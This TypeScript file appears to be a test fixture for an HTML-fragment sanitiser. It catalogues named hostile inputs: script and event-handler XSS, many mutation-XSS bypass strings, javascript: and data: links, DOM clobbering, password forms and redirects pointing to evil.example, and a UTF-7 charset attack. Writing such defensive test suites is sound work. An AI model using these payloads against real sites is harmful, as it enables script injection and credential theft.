/** The answer of a regional host for a fragment after an attack or a mistake. */
export type FragmentAnswer = {
  body: string;
  /** The content type; `text/html; charset=utf-8` if absent. */
  type?: string;
  status?: number;
  /** Redirects to the same file on the demo's content host, or on the page's own. */
  redirect?: 'content' | 'self';
};

/** The text that must stay, whatever is removed. */
export const HARMLESS = 'Words that stay';

const around = (hostile: string): string => `<p>${HARMLESS}</p>${hostile}`;

/** Hostile markup by name. Nothing of it may run, load, submit, cover, or imitate anything. */
const MARKUP: Readonly<Record<string, string>> = {
  script: '<script>pwned()</script><script src="/pwned.js"></script>',
  handlers:
    '<p onclick="pwned()" onmouseover=pwned()>x</p><img src=/x onerror=pwned()><details ontoggle=pwned() open>y</details>',
  'broken-tags':
    '<scr<script>ipt>pwned()</scr</script>ipt><img """><script>pwned()</script>"><<script>pwned();//<</script>',
  'null-bytes': '<scr\0ipt>pwned()</scr\0ipt><a href="java\0script:pwned()">z</a>',
  'mxss-noscript': '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  'mxss-style-in-svg': '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  'mxss-math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  'mxss-form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  'mxss-svg-title': '<svg><desc><title><img src=x onerror=pwned()></title></desc></svg>',
  'mxss-foreign':
    '<svg><foreignObject><body onload=pwned()><img src=x onerror=pwned()></foreignObject></svg>',
  'mxss-comment': '<!--><img src=x onerror=pwned()>--><!--!> <img src=x onerror=pwned()> -->',
  'mxss-textarea': '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>',
  'mxss-table':
    '<table><caption><svg><title><table><caption></caption></table></title><style><img src=x onerror=pwned()></style></svg></caption></table>',
  'mxss-xmp':
    '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp><plaintext><img src=x onerror=pwned()>',
  'deep-nesting': `${'<div>'.repeat(600)}<img src=x onerror=pwned()>${'</div>'.repeat(600)}`,
  clobbering:
    '<a id=attributes>1</a><a name=getElementById>2</a><img name=cookie src=/a.png><a id=pwned>3</a>' +
    '<form id=body><input name=attributes><input name=parentNode></form><a id=assess-widgets name=currentScript href=cid:x>4</a>' +
    '<p class=constructor id=__proto__ name=nodeName>5</p>',
  'script-links':
    '<a href="javascript:pwned()">a</a><a href=" jAvAsCrIpT:pwned()">b</a><a href="java&#10;script:pwned()">c</a>' +
    '<a href="&#106;avascript&colon;pwned()">d</a><a href="vbscript:pwned()">e</a><a xlink:href="javascript:pwned()">f</a>',
  'data-links':
    '<a href="data:text/html,<script>pwned()</script>">a</a><a href="blob:https://evil.example/1">b</a>' +
    '<a href="filesystem:https://evil.example/1">c</a><img src="data:image/svg+xml,<svg onload=pwned()>">',
  'links-elsewhere':
    '<a href="//evil.example/">a</a><a href="/\\evil.example">b</a><a href="https:evil.example">c</a>' +
    '<a href="https://shop@evil.example/">d</a><a href="mailto:x@evil.example">e</a><a ping="https://evil.example/" target=_top href="/fine">fine</a>',
  'pictures-elsewhere':
    '<img src="https://evil.example/a.png" alt=""><img src="//evil.example/b.png" alt=""><img srcset="https://evil.example/c.png 2x" alt="">' +
    '<picture><source srcset="https://evil.example/d.png"></picture><input type=image src="https://evil.example/e.png">' +
    '<video poster="https://evil.example/f.png" src="https://evil.example/f.mp4"></video><audio src="https://evil.example/g.mp3"></audio>' +
    '<table background="https://evil.example/h.png"><tr><td>t</td></tr></table>',
  'meta-refresh':
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><meta name=referrer content=unsafe-url>',
  'base-and-link':
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css"><link rel=manifest href=/x>',
  styles:
    '<style>body{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p><style>@import "https://evil.example/a.css"</style>',
  frames:
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe><iframe src="javascript:parent.pwned()"></iframe><frameset><frame src="https://evil.example/"></frameset>' +
    '<object data="https://evil.example/"><embed src="https://evil.example/"></object><portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
  forms:
    '<form action="https://evil.example/"><label>Password <input name=password></label><button>Sign in</button></form>' +
    '<input form=x><select><option>o</option></select><textarea>t</textarea><button formaction="javascript:pwned()">b</button><isindex action="javascript:pwned()">',
  templates:
    '<template><img src=x onerror=pwned()></template><div><template shadowrootmode=open><img src=x onerror=pwned()><slot></slot></template>s</div>',
  'svg-and-math':
    '<svg onload=pwned()><use href="data:image/svg+xml,x"/><animate attributeName=href values=javascript:pwned() /><a><text>t</text></a></svg><math href="javascript:pwned()">m</math>',
  'custom-elements':
    '<assess-quick-order>inside</assess-quick-order><assess-footer></assess-footer><assess-session></assess-session><x-widget>x</x-widget><p is="x-widget">y</p>',
  'other-slots':
    '<p slot="">a</p><div slot="assess-fragment" part="root" exportparts="root" popover id=pop>b</div><button popovertarget=pop>c</button>',
  gadgets:
    '<p data-assess-config="{}" data-toggle=modal hx-get="https://evil.example/" x-data="pwned()" ng-app v-html="pwned()" role=alert aria-live=assertive aria-owns=content tabindex=1 accesskey=s contenteditable autofocus inert>x</p>',
  'half-a-page':
    '</main></footer></body></html></div></div><body onload=pwned() class=owned><html lang=xx onclick=pwned()>',
};

const KB = 1024;

/** Answers that must be rejected as a whole. */
const REFUSED: Readonly<Record<string, FragmentAnswer>> = {
  'as-json': { body: '{"markup":"<p>no</p>"}', type: 'application/json' },
  'as-text': { body: around(''), type: 'text/plain; charset=utf-8' },
  'as-xhtml': { body: around(''), type: 'application/xhtml+xml' },
  'as-utf-7': { body: '+ADw-script+AD4-pwned()+ADw-/script+AD4-', type: 'text/html; charset=utf-7' },
  'without-a-type': { body: around(''), type: '' },
  '201-kb': { body: around('x'.repeat(201 * KB - around('').length)) },
  'not-found': { body: around(''), status: 404 },
  'a-whole-page': {
    body: '<!-- CMS -->\n<!DOCTYPE html><html><head><title>Sign in</title></head><body><h1>Sign in</h1></body></html>',
  },
  nothing: { body: '' },
  'nothing-harmless': { body: '<script>pwned()</script><style>p{}</style>  ' },
  'from-elsewhere': { body: '', redirect: 'content' },
};

/** Answers that look odd and are accepted. */
const TAKEN: Readonly<Record<string, FragmentAnswer>> = {
  '200-kb': { body: around('x'.repeat(200 * KB - around('').length)) },
  'moved-here': { body: '', redirect: 'self' },
};

/** Every hostile fragment of the demo, by name. `/regional/hostile/{name}` is a regional host that serves it. */
export const HOSTILE_FRAGMENTS: Readonly<Record<string, FragmentAnswer>> = {
  ...Object.fromEntries(Object.entries(MARKUP).map(([name, hostile]) => [name, { body: around(hostile) }])),
  ...REFUSED,
  ...TAKEN,
};
